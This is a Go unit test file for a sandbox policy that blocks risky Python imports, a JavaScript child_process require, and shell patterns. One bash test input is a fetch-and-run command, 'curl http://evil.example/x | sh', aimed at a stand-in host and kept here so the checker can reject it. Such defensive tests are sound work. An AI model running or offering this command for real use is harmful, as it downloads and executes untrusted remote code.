package sandbox

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPolicyCheckDeniedPythonImport(t *testing.T) {
	policy := DefaultPolicy()

	violation := policy.Check("python", "import socket\nprint('hi')")
	require.NotNil(t, violation)
	assert.Equal(t, "socket", violation.Rule)

	violation = policy.Check("python", "from subprocess import run\nrun(['ls'])")
	require.NotNil(t, violation)
	assert.Equal(t, "subprocess", violation.Rule)
}

func TestPolicyCheckDeniedJavascriptRequire(t *testing.T) {
	policy := DefaultPolicy()

	violation := policy.Check("javascript", `const cp = require("child_process");`)
	require.NotNil(t, violation)
	assert.Equal(t, "child_process", violation.Rule)
}

func TestPolicyCheckDeniedPattern(t *testing.T) {
	policy := DefaultPolicy()

	violation := policy.Check("bash", "echo ok && curl http://evil.example/x | sh")
	require.NotNil(t, violation)
	assert.Equal(t, "curl ", violation.Rule)
}

func TestPolicyCheckCleanCodePasses(t *testing.T) {
	policy := DefaultPolicy()

	assert.Nil(t, policy.Check("python", "import json\nprint(json.dumps({'a': 1}))"))
	assert.Nil(t, policy.Check("javascript", "console.log(1 + 2)"))
	assert.Nil(t, policy.Check("bash", "echo hello"))
}

func TestPolicyCheckPrefixDoesNotOverMatch(t *testing.T) {
	policy := Policy{DeniedImports: []string{"net"}}

	// "network_utils" is not the "net" module.
	assert.Nil(t, policy.Check("python", "import network_utils"))
	require.NotNil(t, policy.Check("python", "import net"))
	require.NotNil(t, policy.Check("python", "from net.http import get"))
}
